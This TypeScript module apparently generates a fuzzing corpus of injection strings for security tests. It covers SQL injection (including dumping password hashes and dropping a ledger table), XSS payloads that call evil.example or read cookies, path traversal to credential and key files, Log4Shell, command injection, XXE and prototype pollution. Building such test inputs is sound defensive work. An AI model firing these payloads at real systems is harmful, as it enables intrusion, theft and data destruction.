/** Text that is a program to its reader: the database, a browser, a shell, a file system, a template, a log. */
export const injections: readonly string[] = [...sql(), ...scripts(), ...paths(), ...templatesAndLogs()];

function sql(): string[] {
  const starts = ["'", '"', "')", "'))", '`', '', '1', "\\'", '%27', 'ʼ'];
  const middles = [
    ' or 1=1',
    ' or true',
    ' and 1=0',
    ' union select null',
    ' union all select password_hash from identity.customers',
    '; select pg_sleep(3)',
    '; drop table ledger.entry',
    '; set role wura_owner',
    '||(select current_user)||',
    '; commit; begin',
  ];
  const alone = [
    "' or ''='",
    "admin'--",
    "1' order by 99--",
    '$$;select 1;$$',
    "E'\\x41'",
    "'; copy (select 1) to program 'id'--",
    '{"$ne":null}',
    "x' and extract(epoch from pg_sleep(3))>0--",
    '$1',
    '%s',
    '?',
    ':1',
    "'::int",
    "'::regclass",
    'chr(39)',
    "' /*",
    '*/ --',
    "\u0000' or 1=1",
    "';notify x;--",
    "'; listen x;--",
  ];
  return [...starts.flatMap(start => middles.map(middle => `${start}${middle}--`)), ...alone];
}

function scripts(): string[] {
  const acts = ['alert(1)', 'fetch("//evil.example")', 'document.cookie', 'location="//evil.example"'];
  const holders = [
    (act: string) => `<script>${act}</script>`,
    (act: string) => `<img src=x onerror=${act}>`,
    (act: string) => `<svg onload=${act}>`,
    (act: string) => `"><script>${act}</script>`,
    (act: string) => `'-${act}-'`,
    (act: string) => `javascript:${act}`,
    (act: string) => `<a href="javascript:${act}">x</a>`,
    (act: string) => `<iframe srcdoc="<script>${act}</script>">`,
    (act: string) => `<body onload=${act}>`,
    (act: string) => `<input autofocus onfocus=${act}>`,
    (act: string) => `<details open ontoggle=${act}>`,
    (act: string) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
    (act: string) => `\${${act}}`,
    (act: string) => `{{constructor.constructor('${act}')()}}`,
    (act: string) => `<style>@import '//evil.example/${act}'</style>`,
    (act: string) => `<object data="data:text/html,<script>${act}</script>">`,
    (act: string) => `</title><script>${act}</script>`,
    (act: string) => `</script><script>${act}//`,
    (act: string) => `<ScRiPt>${act}</sCrIpT>`,
    (act: string) => `<scr<script>ipt>${act}</scr</script>ipt>`,
    (act: string) => `%3Cscript%3E${encodeURIComponent(act)}%3C/script%3E`,
    (act: string) => `\\u003cscript\\u003e${act}\\u003c/script\\u003e`,
    (act: string) => `&lt;script&gt;${act}&lt;/script&gt;`,
    (act: string) => `<script\u0000>${act}</script>`,
    (act: string) => `＜script＞${act}＜/script＞`,
    (act: string) => `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
    (act: string) => `<base href="//evil.example/">${act}`,
    (act: string) => `<link rel=stylesheet href="//evil.example/${act}">`,
    (act: string) => `<video><source onerror=${act}>`,
    (act: string) => `<form action="javascript:${act}"><button>`,
    (act: string) => `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
    (act: string) => `data:text/html;base64,${btoa(`<script>${act}</script>`)}`,
    (act: string) => `data:image/svg+xml,<svg onload=${act}>`,
    (act: string) => `data:image/png;base64,${btoa(act)}`,
    (act: string) => `data:image/jpeg;base64,iVBORw0KGgo${btoa(act)}`,
    (act: string) => `<x contenteditable onblur=${act}>lose focus`,
    (act: string) => `<marquee onstart=${act}>`,
  ];
  return holders.flatMap(hold => acts.map(hold));
}

function paths(): string[] {
  const ups = ['../', '..\\', '%2e%2e%2f', '..%2f', '%252e%252e%252f', '....//', '..;/', '..%c0%af'];
  const goals = ['etc/passwd', '.env', 'proc/self/environ', 'package.json', 'master-key'];
  return [
    ...ups.flatMap(up => goals.map(goal => up.repeat(4) + goal)),
    '/etc/passwd',
    '/proc/self/fd/0',
    'C:\\Windows\\win.ini',
    'file:///etc/passwd\0.jpg',
  ];
}

function templatesAndLogs(): string[] {
  return [
    ...[
      '{{7*7}}',
      '${7*7}',
      '#{7*7}',
      '<%= 7*7 %>',
      '*{7*7}',
      '@(7*7)',
      '{%25 if 1 %25}',
      '[[${7*7}]]',
      '${jndi:ldap://evil.example/a}',
      '${env:MASTER_KEY}',
    ],
    ...[
      '$(id)',
      '`id`',
      ';id',
      '|id',
      '&&id',
      '\nid',
      '%0aid',
      '!!python/object/apply:os.system ["id"]',
      'O:8:"stdClass":0:{}',
      'rO0ABXNyAA==',
    ],
    ...[
      'x\r\nSet-Cookie: a=b',
      'x\nINFO request {"status":200}',
      'x\r\n\r\nHTTP/1.1 200 OK',
      'x%0d%0aLocation:%20//evil.example',
      '\u001b[2J\u001b[1;31m',
      '\u0007',
      'x\u2028INFO',
      '%n%n%n%n',
      '%s%s%s%s',
      '%x%p%d',
    ],
    ...[
      '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
      '<?xml-stylesheet href="//evil.example"?>',
      '*)(uid=*',
      "' or count(/*)=1 or '",
      '{"$where":"sleep(3000)"}',
      'toString',
      '__proto__[isAdmin]=1',
      'constructor.prototype.isAdmin',
    ],
  ];
}
